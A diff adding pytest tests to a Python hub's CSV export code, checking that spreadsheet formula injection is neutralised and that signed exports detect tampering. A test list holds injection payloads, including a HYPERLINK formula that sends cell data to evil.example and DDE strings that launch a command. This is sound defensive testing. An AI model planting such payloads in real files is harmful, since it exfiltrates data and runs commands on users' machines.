@@ -9,15 +9,19 @@ from pathlib import Path
 
 import pytest
 from msgspec import Struct
+from msgspec.structs import replace
 
 from hub import export
+from hub.audit_export import check
 from hub.clock import ManualClock
 from hub.config import HubFile, Site
 from hub.contract import BadConfig
 from hub.historian.base import Batch, to_us
 from hub.historian.engine import EmbeddedHistorian
 from hub.ledger import Ledger
-from hub.model import AlarmChange, AlarmEvent, Kind
+from hub.model import AlarmChange, AlarmEvent, Command, Kind
+from hub.seal import Seal
+from hub.words import house_words
 from tests.hub.kit import NOON, PLATE, STATION, at
 
 
@@ -28,6 +32,7 @@ class Order(Struct):
     start: str = ""
     end: str = ""
     output: Path | None = None
+    sign: bool = False
 
 
 def site(folder: Path) -> Site:
@@ -130,3 +135,81 @@ async def test_an_alarm_that_returns_is_told_in_the_words_of_its_raise(tmp_path:
         ("a", "acknowledged", high),
         ("b", "raised", "b rose"),
     ]
+
+
+# ---- what a spreadsheet would run ---------------------------------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/"&A1)',
+    "+cmd|'/C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "－1+A1",
+    "-infinity",
+    "+nan",
+    "=",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+async def test_a_name_that_a_spreadsheet_would_run_is_made_text(tmp_path: Path, text: str):
+    device = replace(STATION, name=text, settings={})
+    out = tmp_path / "devices.csv"
+    hostile = Site(tmp_path, HubFile(), {}, devices=(device,), plates={STATION.id: PLATE})
+    await export.export(hostile, ManualClock(NOON), Order("devices", device="", output=out))
+    with out.open(encoding="utf-8-sig", newline="") as it:
+        (_, row) = list(csv.reader(it))
+    assert row[1] == "'" + text
+
+
+async def test_a_note_and_a_reason_that_a_spreadsheet_would_run_are_made_text(tmp_path: Path):
+    ledger = await Ledger.open(f"sqlite:///{tmp_path}/ledger.sqlite", ManualClock(NOON))
+    seen = replace(change("a", AlarmEvent.ACKNOWLEDGED, 1), note="=1+1", by="@mallory", rule="+rule")
+    asked = Command("c", "ps-1", "-go", {}, "=mallory", "\t=because", NOON, NOON)
+    await ledger.append(seen, asked)
+    period = export.Period("", (NOON + timedelta(hours=1)).isoformat(), "Asia/Shanghai", NOON)
+    for rows, hostile in (
+        (export.alarms(ledger, "", period, "en"), {"'=1+1", "'@mallory", "'+rule"}),
+        (export.commands(ledger, "", period, house_words(), "en"), {"'-go", "'=mallory", "'\t=because"}),
+    ):
+        out = io.StringIO(newline="")
+        assert await export.write(rows, out) == 1
+        (_, row) = table(out.getvalue())
+        assert hostile <= set(row)
+        assert not [cell for cell in row if cell[:1] in tuple("=+-@\t")]
+    await ledger.close()
+
+
+@pytest.mark.parametrize("number", ["-1.50", "+3", "-2e-05", "0"])
+async def test_numbers_stay_numbers(number: str):
+    async def rows() -> export.Rows:
+        yield ("value",)
+        yield (number,)
+
+    out = io.StringIO()
+    await export.write(rows(), out)
+    assert table(out.getvalue())[1] == [number]
+
+
+# ---- under the site's seal ----------------------------------------------------------------------------------------
+
+
+async def test_a_csv_can_be_exported_under_the_sites_seal(tmp_path: Path):
+    (tmp_path / "data").mkdir()
+    out = tmp_path / "devices.csv"
+    await export.export(site(tmp_path), ManualClock(NOON), Order("devices", device="", output=out, sign=True))
+    public = Seal(tmp_path / "data").public
+    manifest, key, wrong = check(out, public)
+    assert (manifest["what"], manifest["of"], manifest["rows"], key, wrong) == ("csv", "devices", 1, public, [])
+    out.write_bytes(out.read_bytes().replace(b"ps-1", b"ps-2"))
+    with pytest.raises(BadConfig, match="was changed after it was sealed: it is not the file that the manifest names"):
+        check(out, public)
+
+
+async def test_a_seal_needs_a_file_to_lie_beside(tmp_path: Path):
+    with pytest.raises(BadConfig, match=r"--sign › needs a file beside which the seal can lie\. Write -o FILE\.csv"):
+        await export.export(site(tmp_path), ManualClock(NOON), Order("devices", sign=True))
